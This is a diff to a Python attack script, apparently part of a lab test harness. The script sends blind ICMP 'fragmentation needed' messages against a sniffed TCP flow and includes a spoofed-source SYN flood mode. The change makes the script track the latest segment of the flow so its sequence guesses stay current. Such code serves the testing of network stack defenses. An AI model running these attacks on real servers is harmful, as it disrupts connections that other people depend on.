@@ -5,11 +5,11 @@ builds a few thousand packets a second here, far below a flood's rate.
 
   attacker.py icmp IFACE SERVER_IP PORT SECONDS PPS
       Blind ICMP "fragmentation needed", next-hop MTU 68, quoting segments
-      from SERVER_IP:PORT. The first segment of that flow seen on IFACE gives
-      the client port and the server's sequence number; half the messages
-      name that connection with a sequence number half the space away (never
-      in flight: what a blind guess almost always is), half random ports and
-      random sequence numbers. Prints {"sent": N} on exit.
+      from SERVER_IP:PORT. The latest segment of that flow seen on IFACE
+      gives the client port and the server's sequence number; half the
+      messages name that connection with a sequence number half the space
+      away (never in flight: what a blind guess almost always is), half
+      random ports and random sequence numbers. Prints {"sent": N} on exit.
   attacker.py synflood IFACE SERVER_MAC SERVER_IP PORT SECONDS SOURCES PPS
       SYNs from SOURCES spoofed on-link addresses (198.18.0.10 up, random
       MACs nobody answers ARP for), PPS a second (0: the attacker's full
@@ -53,25 +53,40 @@ def mac_of(iface):
         return bytes.fromhex(f.read().strip().replace(":", ""))
 
 
-def sniff_flow(s, server_ip, port, deadline):
-    """(server MAC, client port, server seq) of the first segment of the flow."""
+def flow_of(f, want, port):
+    """(server MAC, client port, server seq) when f is a segment of the flow."""
+    if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != want:
+        return None
+    ihl = (f[14] & 15) * 4
+    sport, dport, seq = struct.unpack("!HHI", f[14 + ihl:22 + ihl])
+    return (f[6:12], dport, seq) if sport == port else None
+
+
+def sniff_flow(s, server_ip, port, deadline, flow=None, most=8):
+    """The latest segment's flow: blocks until one when flow is None, else
+    reads what is there (at most most frames)."""
     want = socket.inet_aton(server_ip)
-    while time.monotonic() < deadline:
-        try:
-            f = s.recv(2048)
-        except socket.timeout:
-            continue
-        if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != want:
-            continue
-        ihl = (f[14] & 15) * 4
-        sport, dport, seq = struct.unpack("!HHI", f[14 + ihl:22 + ihl])
-        if sport == port:
-            return f[6:12], dport, seq
-    return None
+    for _ in range(most):
+        if flow is not None:
+            try:
+                f = s.recv(2048, socket.MSG_DONTWAIT)
+            except (BlockingIOError, InterruptedError, socket.timeout):
+                return flow
+        else:
+            if time.monotonic() >= deadline:
+                return None
+            try:
+                f = s.recv(2048)
+            except socket.timeout:
+                continue
+        flow = flow_of(f, want, port) or flow
+    return flow
 
 
 def icmp(iface, server_ip, port, seconds, pps):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    # a small buffer: the kernel drops old frames, the flow's latest count
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32768)
     s.bind((iface, 0))
     s.settimeout(0.2)
     end = time.monotonic() + seconds
@@ -79,7 +94,6 @@ def icmp(iface, server_ip, port, seconds, pps):
     if flow is None:
         print(json.dumps({"sent": 0, "error": "no segment of the flow seen"}))
         return 1
-    smac, cport, sseq = flow
     me = mac_of(iface)
     peer = socket.inet_ntoa(socket.inet_aton(server_ip)[:3] + b"\x01")
     rnd = random.Random(30)
@@ -87,6 +101,7 @@ def icmp(iface, server_ip, port, seconds, pps):
     gap = 1.0 / pps
     nxt = time.monotonic()
     while time.monotonic() < end:
+        smac, cport, sseq = flow = sniff_flow(s, server_ip, port, end, flow)
         if sent % 2 == 0:
             dport, seq = cport, (sseq + 0x80000000 + rnd.randrange(1 << 28)) & 0xFFFFFFFF
         else:
